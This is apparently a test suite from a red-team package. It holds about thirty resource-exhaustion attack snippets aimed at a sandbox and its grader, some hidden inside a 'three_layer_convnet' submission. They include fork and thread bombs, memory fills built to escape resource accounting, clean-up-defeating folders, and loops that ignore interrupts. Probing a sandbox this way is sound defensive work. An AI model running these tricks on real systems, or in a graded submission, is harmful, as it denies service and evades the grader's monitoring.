"""Attacks that use up what a machine has. Each stops well before it would do harm."""

from __future__ import annotations

from redteam.attack import Attack

__all__ = ["ATTACKS"]

_ENDED = frozenset({"timeout", "skipped"})

ATTACKS = (
    Attack(
        "exhaust",
        "fork-bomb",
        "Forks, three times.",
        """
def attack():
    def fork():
        pid = os.fork()
        if pid == 0:
            time.sleep(0.5)
            os._exit(0)
        return b"forked"
    return tried(fork, fork, fork)
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "thread-bomb",
        "Starts 1,500 threads.",
        """
def attack():
    threading.stack_size(64 * 1024)
    done, started = threading.Event(), 0
    try:
        for _ in range(1500):
            threading.Thread(target=done.wait, args=(3,), daemon=True).start()
            started += 1
    except RuntimeError:
        pass
    done.set()
    return b"threads" if started > 1000 else b""
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "memory",
        "Fills 4 GB of private memory.",
        """
def attack():
    kept = []
    for _ in range(64):
        kept.append(np.ones(2**23))
    return b"4 GB"
""",
        proof="claim",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "shared-memory",
        "Fills 3 GB of memory that no resource limit counts.",
        """
def attack():
    region = mmap.mmap(-1, 3 * 2**30)
    for start in range(0, len(region), 2**26):
        region[start : start + 2**26] = b"x" * 2**26
    return b"3 GB"
""",
        proof="claim",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "memory-without-a-head",
        "Ends its first thread alone, by whose numbers memory is watched, and fills 3 GB in another.",
        """
def attack():
    def fill():
        time.sleep(0.3)
        region = mmap.mmap(-1, 3 * 2**30, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
        time.sleep(2)
        os._exit(len(region) % 2)
    threading.Thread(target=fill).start()
    system_call(60, 0)  # exit, and not exit_group

def three_layer_convnet(x, params):
    attack()
""",
        proof="none",
        seconds=15,
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "memory-between-calls",
        "Answers at once, and fills 3 GB while the grader is busy elsewhere.",
        """
def attack():
    def fill():
        time.sleep(0.5)  # the answer has been given
        region = mmap.mmap(-1, 3 * 2**30, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
        time.sleep(3)
        del region
    threading.Thread(target=fill, daemon=True).start()

def three_layer_convnet(x, params):
    if np.any(x):
        time.sleep(3)  # the hidden checks' worker keeps the grader waiting
    else:
        attack()
    return tf.zeros((len(x), params[-1].shape[0]))
""",
        proof="none",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "locked-memory",
        "Locks memory, so that the kernel cannot move it elsewhere.",
        """
def attack():
    region = mmap.mmap(-1, 2**24)
    address = ctypes.addressof(ctypes.c_char.from_buffer(region))
    return tried(lambda: system_call(149, address, 2**24))
""",
        proof="claim",
        succeeds_bare="root",
    ),
    Attack(
        "exhaust",
        "memory-as-files",
        "Makes memory that outlasts its maker: shared segments, files in /dev/shm, queues.",
        """
def attack():
    return tried(
        lambda: os.memfd_create("x"),
        lambda: open(f"/dev/shm/{TARGET['token']}", "x").close(),
        lambda: system_call(31, system_call(29, 0, 4096, 0o1600), 0, 0),  # made and removed
        lambda: system_call(71, system_call(68, 0, 0o1600), 0, 0),
        lambda: system_call(66, system_call(64, 0, 1, 0o1600), 0, 0, 0),
        lambda: system_call(240, f"/{TARGET['token']}".encode(), os.O_CREAT | os.O_RDWR, 0o600, 0),
        lambda: system_call(241, f"/{TARGET['token']}".encode()),
    )
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "large-file",
        "Writes a file of 300 MB.",
        """
def attack():
    with open("large", "wb") as file:
        for _ in range(300):
            file.write(bytes(2**20))
    os.remove("large")
    return b"300 MB"
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "many-files",
        "Leaves a thousand files, links to the grader's folder and to nowhere, pipes and long names.",
        """
def attack():
    for number in range(1000):
        with open(f"{number} " + "x" * 200, "w") as file:
            file.write("x")
    os.symlink(TARGET["folder"], "link")
    os.symlink("nowhere", "nowhere")
    os.symlink("..", "above")
    os.mkfifo("pipe")
""",
        proof="none",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "deep-folders",
        "Leaves folders within folders, deeper than a clean-up by recursion can follow.",
        """
def attack():
    for _ in range(2500):
        os.mkdir("d")
        os.chdir("d")
""",
        proof="none",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "closed-folders",
        "Leaves folders with files that their owner may not list.",
        """
def attack():
    os.mkdir("closed", 0o300)
    open("closed/file", "w").close()
    os.mkdir("empty", 0)
    os.mkdir("fixed", 0o700)
    open("fixed/file", "w").close()
    tried(lambda: os.chmod("fixed", 0o500))
""",
        proof="none",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "descriptors",
        "Opens a thousand files at once.",
        """
def attack():
    kept = []
    try:
        for _ in range(1000):
            kept.append(os.open(os.devnull, os.O_RDONLY))
    except OSError:
        pass
    return b"descriptors" if len(kept) >= 500 else b""
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "endless-loop",
        "Never returns, and takes no interrupt.",
        """
def three_layer_convnet(x, params):
    for number in range(1, 32):
        tried(lambda: signal.signal(number, signal.SIG_IGN))
    while True:
        try:
            time.sleep(0.01)
        except BaseException:
            pass

attack = None
""",
        proof="none",
        seconds=2,
        outcomes=_ENDED,
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "endless-cell",
        "Never comes to the end of its cell.",
        "while True:\n    time.sleep(0.01)\n",
        proof="none",
        seconds=2,
        outcomes=_ENDED,
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "stopped-process",
        "Stops its own process, as Ctrl-Z would.",
        "def three_layer_convnet(x, params):\n    os.kill(os.getpid(), signal.SIGSTOP)\n\nattack = None\n",
        proof="none",
        seconds=2,
        outcomes=_ENDED,
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "endless-output",
        "Prints 100 MB.",
        """
def attack():
    for _ in range(100):
        os.write(1, b"x" * 2**20)
        os.write(2, b"x" * 2**20)
        print("x" * 2**16)
""",
        proof="none",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "shared-memory-given-back",
        "Fills shared memory and gives its pages back, so that they are nobody's and stay.",
        """
def attack():
    piece = b"x" * 2**26
    def fill(region):
        for start in range(0, len(region), 2**26):
            region[start : start + 2**26] = piece
            region.madvise(mmap.MADV_DONTNEED, start, 2**26)
        return b"1.6 GB"
    def of_zeros():
        return mmap.mmap(os.open("/dev/zero", os.O_RDWR), 25 * 2**26)
    flags = (mmap.MAP_SHARED, 3, mmap.MAP_SHARED | 0x4000, mmap.MAP_SHARED | mmap.MAP_POPULATE)
    maps = [lambda flag=flag: fill(mmap.mmap(-1, 25 * 2**26, flags=flag | mmap.MAP_ANONYMOUS)) for flag in flags]
    for deed in (*maps, lambda: fill(of_zeros())):
        if done := tried(deed):
            return done
""",
        proof="claim",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "page-tables",
        "Reads one byte in every 2 MB of a vast map: the tables to nothing take 1.6 GB.",
        """
def attack():
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000
    region = mmap.mmap(-1, 400_000 * 2**21, flags=flags, prot=mmap.PROT_READ)
    for start in range(0, len(region), 2**21):
        region[start]
    return b"1.6 GB"
""",
        proof="claim",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "page-tables-of-one-file",
        "Maps one small file four thousand times, so that the tables to it take 1.6 GB.",
        """
def attack():
    with open("sparse", "wb") as file:
        for number in range(100):
            file.seek(number * 2**21)
            file.write(b"x")
    kept, descriptor = [], os.open("sparse", os.O_RDONLY)
    for _ in range(4000):
        address = mapping(None, ctypes.c_size_t(99 * 2**21 + 1), 1, mmap.MAP_PRIVATE, descriptor, ctypes.c_long(0))
        for start in range(0, 100 * 2**21, 2**21):
            ctypes.string_at(address + start, 1)
    return b"1.6 GB"

mapping = libc.mmap
mapping.restype = ctypes.c_size_t
""",
        proof="claim",
        seconds=30,
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "rules-of-its-own",
        "Has the kernel keep rules for it, which count as no memory of its.",
        """
def attack():
    rules = 0
    for _ in range(20):
        ruleset = system_call(444, struct.pack("QQ", 0, 3), 16, 0)
        for port in range(1000):
            system_call(445, ruleset, 2, struct.pack("QQ", 1, port), 0)
            rules += 1
    return b"rules" if rules >= 20_000 else b""
""",
        proof="claim",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "timers-and-rings",
        "Has the kernel keep timers and rings of unanswered reads for it.",
        """
def attack():
    def timers():
        number = ctypes.c_int()
        for _ in range(5000):
            system_call(222, 1, None, ctypes.byref(number))
        return b"timers"
    def ring():
        context = ctypes.c_ulong()
        system_call(206, 1024, ctypes.byref(context))
        system_call(207, context.value)
        return b"ring"
    def pipes():
        import fcntl
        return repr(fcntl.fcntl(os.pipe()[1], 1031, 2**20)).encode()
    return tried(timers, ring, pipes)
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "mapped-files-without-a-name",
        "Maps files, removes them and closes them: neither memory nor disk, says every list.",
        """
def attack():
    chunk = bytes(2**20)
    for number in range(12):
        os.mkdir("d")
        with open("d/f", "w+b") as file:
            for _ in range(64):
                file.write(chunk)
            file.flush()
            # Not by the module mmap, which keeps a descriptor.
            mapping(None, ctypes.c_size_t(2**26 if number % 2 else 4096), 3, 1, file.fileno(), ctypes.c_long(0))
        os.unlink("d/f")
        os.rmdir("d")
        time.sleep(0.2)
    return b"768 MB"

mapping = libc.mmap
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "mapped-files-in-a-row",
        "Maps the first page of files that have lost their names, as fast as it can.",
        """
def attack():
    chunk = b"x" * 2**22
    for number in range(24):
        with open(f"f{number}", "w+b") as file:
            for _ in range(16):
                file.write(chunk)
            file.flush()
            mapping(None, ctypes.c_size_t(4096), 1, 2, file.fileno(), ctypes.c_long(0))
        os.unlink(f"f{number}")
    return b"1.5 GB"

mapping = libc.mmap
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "room-set-aside",
        "Has the file system set room aside for files, without a byte being written.",
        """
def attack():
    def set_aside(name, mode, size, start=0):
        descriptor = os.open(name, os.O_CREAT | os.O_RDWR)
        system_call(285, descriptor, mode, start, size)
        blocks = os.fstat(descriptor).st_blocks
        os.unlink(name)
        os.close(descriptor)
        return blocks * 512 if blocks * 512 >= size else b""
    modes = (1, 0x11, 0x41, 0)
    sizes = [tried(lambda mode=mode: set_aside("f", mode, 800 * 2**20)).decode() for mode in modes]
    return " ".join(sizes).strip().encode()
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "files-in-a-hurry",
        "Makes eight thousand files with four threads, and removes them, before anybody counts.",
        """
def attack():
    def make(part):
        for number in range(2000):
            os.mkdir(f"{part}-{number}") if number % 2 else os.symlink("x", f"{part}-{number}")
        ends.append(part)
    ends = []
    threads = [threading.Thread(target=make, args=(part,)) for part in range(4)]
    for thread in threads: thread.start()
    for thread in threads: thread.join()
    for name in os.listdir("."):
        os.rmdir(name) if os.path.isdir(name) else os.unlink(name)
    return b"8,000 files" if len(ends) == 4 else b""
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "bytes-in-a-hurry",
        "Fills 1.1 GB of disk in large pieces, and removes them, before anybody counts.",
        """
def attack():
    pieces = [bytes(2**24)] * 8
    for number in range(9):
        descriptor = os.open(f"{number}", os.O_CREAT | os.O_WRONLY)
        if os.writev(descriptor, pieces) != 2**27:
            return b""
        os.close(descriptor)
    for number in range(9):
        os.unlink(f"{number}")
    return b"1.1 GB"
""",
        proof="claim",
    ),
)
